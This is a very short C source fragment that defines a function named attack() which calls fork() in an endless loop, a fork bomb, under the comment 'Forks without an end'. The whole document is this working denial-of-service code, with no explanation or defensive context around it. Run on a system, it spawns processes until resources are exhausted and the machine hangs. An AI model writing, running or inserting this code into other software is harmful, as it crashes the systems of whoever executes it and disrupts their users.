// Forks without an end
#include <unistd.h>
#include <stdlib.h>
inline void attack() {
  for (;;) fork();
}
